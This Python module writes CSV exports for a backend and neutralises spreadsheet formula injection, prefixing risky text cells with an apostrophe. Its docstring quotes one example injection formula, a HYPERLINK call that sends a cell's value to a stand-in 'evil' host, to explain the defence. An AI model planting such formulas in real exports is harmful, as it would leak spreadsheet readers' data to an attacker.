"""CSV for people's spreadsheets: the one place that writes CSV, so that every export neutralises formulas.

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` (and, in some
versions, tab or carriage return, or the full-width forms of those signs) as a formula: a process named
`=HYPERLINK("http://evil/?"&A1)` would run on the reader's machine (CSV injection, OWASP). Such text
cells get a leading `'`, which every spreadsheet shows as text; numbers stay numbers (a negative number
is not text). Leading spaces do not hide a sign: ` =1+1` is neutralised too. Every CSV export in
lineage_backend goes through `csv_text` (tests/lineage_backend/services/test_csv_export.py checks that no
other module writes CSV).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from typing import Any

# What a spreadsheet may read as the start of a formula (ASCII and full-width forms).
FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
# Leading characters a spreadsheet may skip before it looks for the sign.
_SKIPPED = " \u00a0\u3000"


def safe_cell(value: Any) -> str:
    """One cell as text: None empty, times ISO 8601, floats without trailing zeros, and text that a
    spreadsheet would run as a formula prefixed with `'`."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (datetime, date)):
        return value.isoformat()
    if isinstance(value, (int, float)):
        return f"{value:.4f}".rstrip("0").rstrip(".") if isinstance(value, float) else str(value)
    text = str(value)
    stripped = text.lstrip(_SKIPPED)
    if stripped[:1] in FORMULA_STARTS:
        return "'" + text
    return text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """A CSV document (RFC 4180 quoting, CRLF line ends) whose every cell, header included, went
    through `safe_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([safe_cell(title) for title in header])
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return buffer.getvalue()
